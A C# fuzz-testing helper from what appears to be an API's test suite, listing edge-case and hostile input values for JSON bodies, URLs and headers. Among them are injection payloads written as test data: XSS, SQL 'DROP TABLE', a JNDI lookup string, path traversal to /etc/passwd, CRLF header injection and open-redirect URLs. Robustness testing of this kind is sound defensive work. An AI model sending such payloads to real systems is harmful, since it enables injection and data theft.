using System.Globalization;

namespace Flinks.Bff.Tests.Fuzz;

/// <summary>Values that break what was written with ordinary ones in mind.</summary>
internal static class OddValues
{
    private const int Deep = 60;

    /// <summary>As JSON, each a whole value.</summary>
    public static readonly IReadOnlyList<string> Json =
    [
        "null", "true", "false", "0", "-0", "-1", "1", "0.1", "1e400", "-1e400", "1E-400", "2147483648", "9007199254740993", "9223372036854775808", "1e5",
        "123456789012345678901234567890", "\"\"", "\" \"", "\"\\u0000\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\ufeff\"", "\"\\u202e\\u0007\"", "\"\\r\\nX-Injected: 1\"",
        "\"<script>alert(1)</script>\"", "\"'; DROP TABLE Connections; --\"", "\"${jndi:ldap://example.test/a}\"", "\"../../etc/passwd\"", "\"%00\"", "\"\U0001F341\"",
        "\"00000000-0000-0000-0000-000000000000\"", "\"{51510000-0000-4000-8000-000000000001}\"", "\"5151000000004000800000000000000g\"", "\"2026-13-45T99:99:99Z\"",
        "\"https://evil.example.test/\"", "\"javascript:alert(1)\"", "\"//evil.example.test\"", "[]", "[null]", "[[]]", "[{}]", "[\"\"]", "{}", "{\"\":\"\"}", "{\"__proto__\":{}}", "{\"$type\":\"System.Object\"}",
        $"\"{new string('x', 5_000)}\"",
        $"\"{string.Concat(Enumerable.Repeat("\\ud83c\\udf41", 500))}\"",
        $"[{string.Join(',', Enumerable.Repeat("null", 3_000))}]",
        $"[{string.Join(',', Enumerable.Range(0, 500).Select(number => $"\"{new Guid(number, 0, 0, new byte[8])}\""))}]",
        $"{{{string.Join(',', Enumerable.Range(0, 1_000).Select(number => string.Create(CultureInfo.InvariantCulture, $"\"m{number}\":{number}")))}}}",
        $"{new string('[', Deep)}{new string(']', Deep)}",
        $"{string.Concat(Enumerable.Repeat("{\"a\":", Deep))}1{new string('}', Deep)}",
        $"{new string('[', 5_000)}",
        $"-{new string('9', 5_000)}",
    ];

    /// <summary>As part of an address; escaped already.</summary>
    public static readonly IReadOnlyList<string> InAddresses =
    [
        "0", "null", "undefined", "NaN", "%20", "%2F", "%5C", "..", "..%2f..%2f", "%252e%252e", "%E2%80%AE", "%F0%9F%8D%81", "%C3%28", "%ff%fe", "%0d%0aX-Injected:%201", "%22%3E%3Cscript%3E", "';--",
        "00000000-0000-0000-0000-000000000000", "%7B51510000-0000-4000-8000-000000000001%7D", "51510000000040008000000000000001", "51510000-0000-4000-8000-00000000000g",
        "9223372036854775808", "-1", "1e9", ";a=b", "a,b", "a:b", "*", "~", "%25", "&", "=", "%26x=y", new('a', 3_000),
    ];

    /// <summary>In a header that may hold any text.</summary>
    public static readonly IReadOnlyList<string> InHeaders =
    [
        "", " ", "x", "\t", "é", "\U0001F341", "\"", "\"unclosed", ",,,,", ";;;=;q=", "a=b; a=c", "*", "*/*;q=2", "0", "-1", "99999999999999999999", "wait=", "wait=-1", "wait=1e9", "wait=0, wait=1", "fr;q=x", "%00",
        "Basic dXNlcjpwYXNz", new('h', 4_000), string.Join(',', Enumerable.Repeat("fr-CA;q=0.1", 500)),
    ];

    /// <summary>Types of bodies, few of which are JSON.</summary>
    public static readonly IReadOnlyList<string> ContentTypes =
    [
        "application/json; charset=utf-8", "application/json; charset=utf-16", "application/json; charset=nonsense", "application/problem+json", "APPLICATION/JSON", "application/json;;;", "text/plain", "text/json", "application/xml",
        "application/x-www-form-urlencoded", "multipart/form-data; boundary=", "multipart/form-data; boundary=x", "*/*", "", "nonsense", "application/json, text/plain",
    ];

    /// <summary>Headers that mean something to us, to the server or to a proxy.</summary>
    public static readonly IReadOnlyList<string> HeaderNames =
    [
        "Idempotency-Key", "Prefer", "Accept-Language", "Accept", "Accept-Encoding", "Last-Event-ID", "traceparent", "tracestate", "baggage", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded", "Origin",
        "Access-Control-Request-Method", "Range", "If-None-Match", "If-Modified-Since", "Cookie", "X-HTTP-Method-Override", "X-Original-URL", "Expect", "TE", "Upgrade", "Referer", "User-Agent", "Content-Encoding",
        "Content-Language", "flinks-authenticity-key", "X-Request-Id",
    ];

    /// <summary>Bytes that are put into the middle of a body.</summary>
    public static readonly IReadOnlyList<byte[]> Bytes = [[0x00], [0xFF], [0xC3, 0x28], [0xEF, 0xBB, 0xBF], [0xED, 0xA0, 0x80], "\\"u8.ToArray(), "\""u8.ToArray(), "{"u8.ToArray(), "}"u8.ToArray(), ",,"u8.ToArray(), "//"u8.ToArray()];

    public static T Pick<T>(this Random chance, IReadOnlyList<T> choices) => choices[chance.Next(choices.Count)];

    public static bool Hits(this Random chance, double share) => chance.NextDouble() < share;
}
